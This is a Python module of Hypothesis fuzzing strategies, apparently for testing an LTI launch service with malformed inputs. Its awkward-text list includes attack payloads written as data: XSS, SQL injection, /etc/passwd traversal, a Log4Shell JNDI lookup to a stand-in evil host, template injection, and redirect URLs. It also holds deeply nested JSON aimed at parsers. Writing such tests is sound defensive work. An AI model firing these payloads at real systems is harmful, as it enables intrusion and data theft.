"""Values that a claim or a parameter never should have, as hypothesis strategies."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

AWKWARD_TEXTS = [
    "",
    " ",
    "\x00",
    "\ud800",
    "\u202e",
    "\ufeff",
    "İ",
    "ﬀ",
    "null",
    "true",
    "-1",
    "1e400",
    "x" * 255,
    "x" * 256,
    "x" * 10_000,
    "é" * 4000,
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "%00",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/}",
    "{{7*7}}",
    "http://localhost:8400/lti/launch",
    "http://localhost:8400/lti/launch?quiz=00000000-0000-4000-8000-000000000000",
    "http://localhost:8400/lti/launch?attempt=999999999999999999",
    "http://localhost:8400@evil.example/lti/launch",
    "http://[::1",
    "http://localhost:99999999/",
    "//evil.example",
    "javascript:alert(1)",
    "1.3.0",
    "LtiDeepLinkingRequest",
    "LtiSubmissionReviewRequest",
    "http://purl.imsglobal.org/vocab/lis/v2/membership#Instructor",
]
texts = st.one_of(st.sampled_from(AWKWARD_TEXTS), st.text(max_size=40), st.uuids().map(str))
numbers = st.one_of(
    st.integers(),
    st.sampled_from([0, -1, 1, 2**31, 2**53, 2**63, 2**64, 10**30, 253402300800]),
    st.floats(allow_nan=False, allow_infinity=False),
)
scalars = st.one_of(st.none(), st.booleans(), numbers, texts)
json_values: st.SearchStrategy[Any] = st.recursive(
    scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(texts, inner, max_size=4)),
    max_leaves=12,
)
# Words that are no JSON value of Python's, put into the text of a token as they are.
raw_literals = st.sampled_from(
    [
        "NaN",
        "Infinity",
        "-Infinity",
        "1e400",
        "-0",
        "1E5",
        "0123",
        "1" * 5000,
        "1." + "1" * 5000,
        "[" * 30 + "]" * 30,
        '{"a":' * 19 + "1" + "}" * 19,
        "[" * 50_000,
        '{"a":' * 20_000,
        '"\\ud800"',
        '"\\u0000"',
        '"\\ud83d\\ude00"',
        "undefined",
        "",
        "{}",
        "[]",
        '""',
        "true",
        "'x'",
    ]
)
